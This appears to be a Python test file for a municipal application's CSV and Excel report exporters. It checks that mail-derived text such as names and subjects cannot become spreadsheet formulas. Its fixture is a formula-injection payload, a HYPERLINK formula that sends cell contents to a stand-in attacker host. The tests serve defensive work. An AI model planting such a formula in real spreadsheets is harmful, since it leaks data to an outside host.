"""Exports a spreadsheet opens: text from mail never becomes a formula."""

import csv
import io

from openpyxl import load_workbook

from app.reports.roster import RosterEntry, roster_csv, roster_xlsx
from app.reports.spreadsheet import safe_cell, write_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_formula_starts_become_text_and_numbers_stay_numbers() -> None:
    """=, +, -, @ and control characters are defused; ordinary text and numbers are untouched."""
    assert safe_cell(HOSTILE) == "'" + HOSTILE
    assert [safe_cell(v) for v in ("+45 1", "-2+3", "@SUM(A1)", "\t=1")] == [
        "'+45 1", "'-2+3", "'@SUM(A1)", "'\t=1"]
    assert safe_cell("Underretning hænger") == "Underretning hænger"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5


def test_weekly_csv_rows_are_defused() -> None:
    """A subject from a stranger's mail reaches the report's CSV as text."""
    rows = list(csv.reader(io.StringIO(write_csv(("a", "b"), [(HOSTILE, 7)]))))
    assert rows == [["a", "b"], ["'" + HOSTILE, "7"]]


def test_roster_csv_and_xlsx_keep_hostile_names_as_text() -> None:
    """The roster KOMBIT receives cannot carry a formula, in CSV or in Excel."""
    entries = [RosterEntry(HOSTILE, "x@korsbaek.dk", "+45 72 34 60 01", "superbruger")]
    assert list(csv.reader(io.StringIO(roster_csv(entries))))[1][0] == "'" + HOSTILE
    sheet = load_workbook(io.BytesIO(roster_xlsx(entries))).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == HOSTILE
